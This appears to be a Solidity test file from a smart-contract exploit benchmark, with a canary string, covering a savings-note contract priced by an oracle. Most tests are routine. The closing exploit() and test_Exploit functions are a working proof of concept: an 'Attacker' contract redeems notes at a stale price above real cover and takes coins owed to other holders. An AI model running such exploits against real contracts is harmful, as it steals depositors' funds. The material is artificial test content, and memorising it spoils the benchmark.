// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-da84b213-05b0-4f89-a102-a3cb33748e6a

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./MastYardSavings.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 timestamp) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 2_000_000e18);
    }
}

/// A holder of notes.
contract Attacker {
    function leave(MastYardSavings savings) external {
        savings.redeem(savings.balanceOf(address(this)), 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_770_000_000;
    address private constant YARD = address(0x4A4D);
    address private constant PRESS = address(0x94E55);
    address private constant JIM = address(0x113);
    address private constant LIZ = address(0x112);

    Coin public coin;
    PriceBoard public board;
    MastYardSavings public savings;
    Attacker public leaver;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        board = new PriceBoard(PRESS);
        savings = new MastYardSavings(coin, board, YARD);
        vm.prank(PRESS);
        board.report(0.97e18);
        _buy(JIM, 300_000e18);
        _buy(LIZ, 200_000e18);
        leaver = new Attacker();
        vm.prank(LIZ);
        savings.transfer(address(leaver), 200_000e18);
        // Half of the coins became ships, and four fifths of the ships are lost.
        vm.startPrank(YARD);
        savings.take(YARD, 250_000e18);
        savings.valueYard(50_000e18);
        vm.stopPrank();
    }

    function _buy(address who, uint256 coins) private {
        coin.transfer(who, coins);
        vm.startPrank(who);
        coin.approve(address(savings), coins);
        savings.buy(coins);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(savings.cover() == 0.6e18 && coin.balanceOf(YARD) == 250_000e18, "three fifths");
        // The market comes to the same conclusion.
        vm.prank(PRESS);
        board.report(0.6e18);
        vm.prank(JIM);
        require(savings.redeem(100_000e18, 60_000e18) == 60_000e18 && savings.cover() == 0.6e18, "at the cover");
        vm.prank(YARD);
        savings.valueYard(300_000e18);
        require(savings.cover() > 1e18 && savings.redemptionPrice() == 1e18, "covered again");
        vm.prank(JIM);
        require(savings.redeem(50_000e18, 50_000e18) == 50_000e18, "at par");
        _buy(LIZ, 10_000e18);
        vm.prank(LIZ);
        savings.approve(JIM, 10_000e18);
        vm.prank(JIM);
        savings.transferFrom(LIZ, JIM, 10_000e18);
        savings.grantRole(savings.YARD_ROLE(), LIZ);
        savings.revokeRole(savings.YARD_ROLE(), LIZ);
        savings.renounceRole(bytes32(0), address(this));
    }

    function test_RefusesUncovered() public {
        vm.expectRevert(_text("MastYardSavings: not covered"));
        savings.buy(1e18);
        vm.warp(START + 1 days + 1);
        vm.prank(JIM);
        vm.expectRevert(_text("MastYardSavings: old price"));
        savings.redeem(1e18, 0);
    }

    function test_RefusesAmounts() public {
        vm.prank(YARD);
        savings.valueYard(250_000e18);
        vm.expectRevert(_text("MastYardSavings: zero"));
        savings.buy(0);
        vm.startPrank(JIM);
        vm.expectRevert(_text("MastYardSavings: too few"));
        savings.redeem(0, 0);
        vm.expectRevert(_text("MastYardSavings: too few"));
        savings.redeem(1e18, 1e18 + 1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes32 role = savings.YARD_ROLE();
        bytes memory why = abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, JIM, role);
        vm.startPrank(JIM);
        vm.expectRevert(why);
        savings.take(JIM, 1);
        vm.expectRevert(why);
        savings.valueYard(1);
        vm.expectRevert(_text("PriceBoard: not the reporter"));
        board.report(1);
        vm.stopPrank();
        vm.prank(PRESS);
        vm.expectRevert(_text("PriceBoard: zero"));
        board.report(0);
    }

    function test_RefusesSetups() public {
        vm.expectRevert(_text("MastYardSavings: zero"));
        new MastYardSavings(IERC20(address(0)), board, YARD);
        vm.expectRevert(_text("MastYardSavings: zero"));
        new MastYardSavings(coin, PriceBoard(address(0)), YARD);
    }

    function _text(string memory reason) private pure returns (bytes memory) {
        return abi.encodeWithSignature("Error(string)", reason);
    }

    function exploit() public {
        leaver.leave(savings);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(leaver)) >= 190_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(savings);
    }

    function attacker() public view returns (address) {
        return address(leaver);
    }
}
